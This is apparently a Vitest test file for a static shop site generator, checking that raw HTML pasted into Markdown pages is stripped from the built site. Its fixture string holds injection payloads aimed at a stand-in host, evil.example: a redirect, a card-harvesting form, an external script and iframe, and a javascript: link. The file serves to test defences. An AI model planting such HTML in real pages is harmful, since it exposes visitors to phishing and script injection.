import { cpSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { buildOtherShop, type OtherShop } from './support/other-shop.ts';

const FIXTURES = path.resolve(import.meta.dirname, '../fixtures');
const RESULTS = path.resolve(import.meta.dirname, '../../test-results');
/** Harmful HTML that a pasted article may contain, and text that must stay visible. */
const hostile = (kind: string) => `

Words of ${kind} stay.

<meta http-equiv="refresh" content="0;url=https://evil.example/">

<form action="https://evil.example/" method="post"><input name="card"><button>Pay here</button></form>

<script src="https://evil.example/x.js"></script><iframe src="https://evil.example/"></iframe>

An <b onclick="evil()">inline</b> link and <a href="javascript:evil.example">another</a>.
`;
/** For each kind of content with Markdown, a page that shows the text. */
const PAGES: Record<string, string> = {
  blog: 'blog/one-week-in-september.html',
  creators: 'creators/maud-ferris.html',
  fundings: 'funding/a-second-tree.html',
  products: 'products/damson-jam.html',
  recipes: 'recipe/jam-tart.html',
  legal: 'privacy.html',
};

let content: string;
let shop: OtherShop;
beforeAll(async () => {
  mkdirSync(RESULTS, { recursive: true });
  content = mkdtempSync(path.join(RESULTS, 'hostile-content-'));
  for (const fixture of ['minimal-shop', 'one-of-each'])
    cpSync(path.join(FIXTURES, fixture), content, { recursive: true });
  for (const file of readdirSync(content, { recursive: true, encoding: 'utf8' })) {
    if (!file.endsWith('.md')) continue;
    const target = path.join(content, file);
    writeFileSync(target, readFileSync(target, 'utf8') + hostile(file.split(path.sep)[0]!));
  }
  shop = await buildOtherShop(content);
});
afterAll(async () => {
  await shop?.remove();
  rmSync(content, { recursive: true, force: true });
});

test('every kind of Markdown is in the list of pages', () => {
  const kinds = readdirSync(content).filter((kind) =>
    readdirSync(path.join(content, kind)).some((file) => file.endsWith('.md')),
  );
  expect(kinds.sort()).toEqual(Object.keys(PAGES).sort());
});

test.each(Object.entries(PAGES))(
  'raw HTML in %s adds no form, redirect or script to a page',
  (kind, page) => {
    const html = readFileSync(path.join(shop.folder, 'dist', page), 'utf8');
    expect(html).toContain(`Words of ${kind} stay.`);
    const tags = html.match(/<[^>]*>/g) ?? [];
    expect(tags.filter((tag) => /evil|http-equiv|iframe|javascript:/i.test(tag))).toEqual([]);
  },
);
